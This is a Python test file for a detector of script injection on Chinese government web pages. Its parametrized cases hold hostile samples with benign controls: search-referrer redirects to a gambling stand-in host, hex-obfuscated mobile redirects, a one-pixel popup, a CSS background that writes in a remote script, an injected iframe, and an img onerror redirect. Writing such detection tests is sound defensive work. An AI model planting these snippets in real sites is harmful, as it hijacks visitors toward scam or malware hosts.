"""Scripts of intruders as the nineteenth blind set showed them, by cause."""

from __future__ import annotations

from datetime import date

import pytest
from read_tools import read
from site_facts import WINDOWS, facts

from xuncha.checks.injection.check import observe as observe_injection
from xuncha.facts import Site
from xuncha.read.intruders.signs import telling_signs

HOME = "http://www.shili.gov.cn/"
SITE = Site(HOME, "示例县人民政府", "4101000001")
WORDS = "<p>" + "今天上午，县水利局召开防汛工作会议，部署水库安全度汛工作。" * 6 + "</p>"


def injected(body: str, head: str = "") -> set[str]:
    html = (
        f"<html><head><title>示例县人民政府</title>{head}</head><body>{WORDS}{body}</body></html>"
    )
    signs = telling_signs([read(HOME, html, date(2026, 6, 1))])
    seen = observe_injection(facts(site=SITE, signs=signs), WINDOWS)
    return {one.name for one in seen} - {"leaving_notice_unknown"}


def script(code: str) -> str:
    return f"<script>{code}</script>"


def hexes(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


CLICKS = 'if(document.referrer.indexOf("baidu.com")!=-1){{a=document.createElement("a");a.href="{}";a.click();}}'


@pytest.mark.parametrize(
    ("to", "is_trick"),
    [("https://bc.example/", True), ("/zt/ycj.html", False), (HOME, False)],
)
def test_who_searched_is_led_away_by_a_link_that_clicks_itself(to: str, is_trick: bool) -> None:
    assert ("script_trick" in injected(script(CLICKS.format(to)))) is is_trick


def test_who_searched_and_a_link_that_waits() -> None:
    code = 'if(document.referrer.indexOf("baidu.com")!=-1){document.getElementById("m").href="http://weixin.example/";}'
    assert injected(script(code)) == set()


@pytest.mark.parametrize(("to", "is_trick"), [("https://bc.example/", True), ("/m/", False)])
def test_telephones_in_hexadecimal(to: str, is_trick: bool) -> None:
    code = f"!(function(){{function m(){{return/Android|iPhone/i['{hexes('test')}'](navigator['{hexes('userAgent')}'])}}if(m()&&document.cookie.indexOf('v')<0){{document['{hexes('cookie')}']='v=1';window['{hexes('location')}']['{hexes('href')}']='{hexes(to)}'}}}})();"
    assert ("script_trick" in injected(script(code))) is is_trick


@pytest.mark.parametrize(
    ("code", "is_trick"),
    [
        ('window.open("http://muma.example/","","width=1,height=1")', True),
        ('open("http://muma.example/","n","toolbar=no,width=1,height=1,left=10")', True),
        ('window.open("http://diaocha.example/","","width=600,height=400")', False),
        ('window.open("/tc/tongzhi.html","","width=1,height=1")', False),
        ('function k(){window.open("http://muma.example/","","width=1,height=1")}', False),
    ],
)
def test_a_window_of_one_dot(code: str, is_trick: bool) -> None:
    assert ("script_trick" in injected(script(code))) is is_trick


@pytest.mark.parametrize(
    ("rule", "is_seen"),
    [
        (
            "body{background-image:url('javascript:document.write(\"<script src=http://m.example/a.js></script>\")')}",
            True,
        ),
        ("body{background-image:url('/img/javascript.png')}", False),
        ("a{background:url(javascript:void(0))}", False),
    ],
)
def test_a_background_that_is_a_script(rule: str, is_seen: bool) -> None:
    found = injected("", f"<style>{rule}</style>")
    assert bool(found & {"foreign_script", "script_trick"}) is is_seen


def test_libraries_of_a_house_that_everybody_uses() -> None:
    hosts = ("maxcdn.bootstrapcdn.com", "stackpath.bootstrapcdn.com", "oss.maxcdn.com")
    assert (
        injected("".join(f'<script src="https://{one}/a.js"></script>' for one in hosts)) == set()
    )


@pytest.mark.parametrize(
    ("picture", "is_trick"),
    [
        ("<img src=x onerror=\"location='http://bc.example/'\">", True),
        ("<img src=x onerror=\"location='/404.html'\">", False),
        ("<img src=x onerror=\"this.src='http://tu.example/1.png'\">", False),
    ],
)
def test_a_picture_that_fails_leads_away(picture: str, is_trick: bool) -> None:
    assert ("script_trick" in injected(picture)) is is_trick


@pytest.mark.parametrize(
    ("code", "is_seen"),
    [
        (
            "document.body.innerHTML=document.body.innerHTML+'<iframe src=\"http://m.example/\"></iframe>';",
            True,
        ),
        ("$('body').append('<iframe src=\"http://m.example/\"></iframe>');", True),
        (
            "function bofang(){document.body.innerHTML+='<iframe src=\"http://m.example/\"></iframe>';}",
            False,
        ),
        ("document.body.innerHTML+='<iframe src=\"/tq.html\"></iframe>';", False),
    ],
)
def test_a_frame_put_to_the_text_of_the_page(code: str, is_seen: bool) -> None:
    assert ("foreign_script" in injected(script(code))) is is_seen


@pytest.mark.parametrize(("to", "is_trick"), [("http://203.0.113.4/a/", True), ("/zt/", False)])
def test_words_of_a_list_by_hexadecimal_places(to: str, is_trick: bool) -> None:
    words = ",".join(f'"{hexes(w)}"' for w in ("referrer", "test", "href", "location", to))
    code = f"var _0x4=[{words}];var r=/\\.(sogou|baidu|so)\\./;var w=document[_0x4[0x0]];if(r[_0x4[0x1]](w)){{window[_0x4[0x3]][_0x4[0x2]]=_0x4[0x4]}}"
    assert ("script_trick" in injected(script(code))) is is_trick
